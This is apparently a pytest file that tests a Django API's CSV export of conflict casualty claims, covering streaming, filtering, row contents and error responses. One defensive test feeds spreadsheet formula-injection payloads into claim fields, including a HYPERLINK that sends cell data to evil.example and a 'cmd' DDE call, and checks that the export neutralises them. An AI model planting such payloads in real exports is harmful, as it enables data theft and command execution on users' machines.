"""The claim list as CSV (`/api/claims.csv`, `/api/claims/?format=csv`): the
whole filtered list (not one page), streamed, with a header row; cells a
spreadsheet would run as a formula are defused; a bad filter is still a 400.

Its constant number of queries is checked with the other lists in
test_api_reads.py.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.core.cache import cache

from claims.api.export import COLUMNS
from claims.models import ClaimStatus, Quantity
from tests.factories import (
    make_claim,
    make_document,
    make_event,
    make_figure,
    make_party,
    make_place,
    make_relation,
    make_review,
    make_source,
    make_user,
)

pytestmark = pytest.mark.django_db

EXPORT_URLS = ["/api/claims.csv", "/api/claims/?format=csv"]


@pytest.fixture(autouse=True)
def _unthrottled(settings):
    """The test client is one address: lift the anonymous rate for this file (and
    hash the reviewers' passwords quickly)."""
    settings.API_ANON_RATE = "100000/minute"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    cache.clear()


def export(client, url: str) -> tuple[object, list[dict]]:
    """The response and its rows, read back with the csv module."""
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    assert response.streaming
    text = b"".join(response.streaming_content).decode("utf-8")
    reader = csv.reader(io.StringIO(text))
    header = next(reader)
    assert header == COLUMNS
    return response, [dict(zip(header, row, strict=True)) for row in reader]


def with_query(url: str, query: str) -> str:
    return f"{url}{'&' if '?' in url else '?'}{query}"


@pytest.fixture
def sohr_claims():
    """60 SOHR claims (more than a page) and 5 by another source."""
    sohr = make_source(slug="sohr", name="SOHR")
    ids = [make_claim(source=sohr, text=f"SOHR claim {n}").pk for n in range(60)]
    other = make_source(slug="other")
    for n in range(5):
        make_claim(source=other, text=f"Other claim {n}")
    return ids


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_export_streams_every_filtered_claim_with_a_header_row(client, sohr_claims, url):
    response, rows = export(client, with_query(url, "source=sohr"))

    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    assert ".csv" in response["Content-Disposition"]
    assert [int(row["id"]) for row in rows] == sohr_claims  # all 60: no pagination
    assert {row["source"] for row in rows} == {"sohr"}


@pytest.mark.parametrize("url", EXPORT_URLS)
def test_export_applies_every_filter_and_the_ordering(client, url):
    sdf = make_party(slug="sdf")
    hajin = make_place(slug="hajin")
    event = make_event(date=dt.date(2018, 12, 3), places=[hajin], parties=[sdf])
    later = make_event(date=dt.date(2018, 12, 9), places=[hajin])
    sohr = make_source(slug="sohr")
    first = make_claim(source=sohr, event=later, text="Shelling reported")
    second = make_claim(source=sohr, event=event, text="Civilians killed")
    make_claim(source=sohr, text="No event")
    make_claim(source=make_source(party=sdf), event=event, text="Nothing happened")

    _, rows = export(client, with_query(url, "place=hajin&source=sohr&ordering=-date"))
    assert [int(row["id"]) for row in rows] == [first.pk, second.pk]
    _, rows = export(client, with_query(url, "q=civilians"))
    assert [int(row["id"]) for row in rows] == [second.pk]


def test_export_rows_hold_the_claim_its_source_event_and_figures(client):
    sdf = make_party(slug="sdf")
    event = make_event(title="Battle of Hajin", date=dt.date(2018, 12, 3), parties=[sdf])
    document = make_document(slug="campaign")
    claim = make_claim(
        source=make_source(slug="sdf-press", name="SDF Press Office", party=sdf),
        event=event,
        document=document,
        text="ISIL lost 50 fighters",
        excerpt="The SDF stated that ISIL lost 50 fighters.",
        verb="stated",
        stated_on=dt.date(2018, 12, 4),
        section="December",
        char_start=10,
        char_end=60,
    )
    make_figure(claim, quantity=Quantity.KILLED, subject="ISIL fighters", low=50, high=70)
    make_figure(
        claim,
        quantity=Quantity.WOUNDED,
        subject="civilians",
        low=None,
        high=None,
        as_written="dozens",
    )
    other = make_claim(event=event)
    make_relation(claim, other)
    make_review(claim, make_user(), status=ClaimStatus.DISPUTED)

    _, [row, _] = export(client, "/api/claims.csv")

    assert row == {
        "id": str(claim.pk),
        "source": "sdf-press",
        "source_name": "SDF Press Office",
        "party": "sdf",
        "kind": "casualties",
        "status": "disputed",
        "verb": "stated",
        "text": "ISIL lost 50 fighters",
        "excerpt": "The SDF stated that ISIL lost 50 fighters.",
        "event_id": str(event.pk),
        "event_date": "2018-12-03",
        "event_date_precision": "day",
        "event_title": "Battle of Hajin",
        "stated_on": "2018-12-04",
        "figures": "killed: 50-70 ISIL fighters; wounded: dozens civilians",
        "self_interested": "true",
        "contradiction_count": "1",
        "document": "campaign",
        "section": "December",
        "char_start": "10",
        "char_end": "60",
        "url": f"http://testserver/claims/{claim.pk}/",
    }


def test_export_of_a_claim_without_event_or_document_leaves_those_cells_empty(client):
    make_claim(source=make_source(slug="sohr"), text="A rumour")
    _, [row] = export(client, "/api/claims.csv")
    assert {key: row[key] for key in ("party", "event_id", "event_date", "document")} == {
        "party": "",
        "event_id": "",
        "event_date": "",
        "document": "",
    }
    assert row["self_interested"] == "false"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_export_defuses_cells_a_spreadsheet_would_run_as_formulas(client, start):
    formula = f'{start}HYPERLINK("http://evil.example/?x="&A1,"click")'
    make_claim(
        source=make_source(name=f"{start}Source"),
        event=make_event(title=f"{start}1+1"),
        text=formula,
        excerpt=f"{start}cmd|' /C calc'!A0",
        verb=f"{start}said",
        section=f"{start}SUM(A1:A9)",
    )
    _, [row] = export(client, "/api/claims.csv")
    for column in ("source_name", "event_title", "text", "excerpt", "verb", "section"):
        assert row[column].startswith(f"'{start}"), (column, row[column])
    assert row["text"] == f"'{formula}"


def test_export_leaves_ordinary_cells_alone(client):
    make_claim(
        source=make_source(name="SOHR"),
        text="23 civilians = the toll, +5 wounded",
        excerpt="'Quoted' sentence",
    )
    _, [row] = export(client, "/api/claims.csv")
    assert row["source_name"] == "SOHR"
    assert row["text"] == "23 civilians = the toll, +5 wounded"
    assert row["excerpt"] == "'Quoted' sentence"


def test_export_keeps_commas_quotes_and_newlines_inside_their_cells(client):
    text = 'He said "no", then:\nnothing more, ever'
    make_claim(text=text)
    _, [row] = export(client, "/api/claims.csv")
    assert row["text"] == text


def test_export_accepts_text_csv_from_the_accept_header(client):
    make_claim()
    response = client.get("/api/claims/", HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize("url", EXPORT_URLS)
@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("status=maybe", "status"),
        ("source=no-such-source", "source"),
        ("date_after=2018-13-01", "date_after"),
        ("contested=yes", "contested"),
        ("ordering=popularity", "ordering"),
        ("sorce=sohr", "sorce"),
        ("page_size=abc", "page_size"),
        ("page=0", "page"),
    ],
)
def test_export_with_a_bad_parameter_is_a_400_naming_it(client, url, query, parameter):
    make_claim(source=make_source(slug="sohr"))
    response = client.get(with_query(url, query))
    assert response.status_code == 400
    assert not response.streaming
    # An error is JSON, as the schema documents, even when CSV was asked for.
    assert response["Content-Type"] == "application/json"
    assert parameter in response.json()["errors"]
    assert f"Invalid {parameter}" in response.json()["detail"]
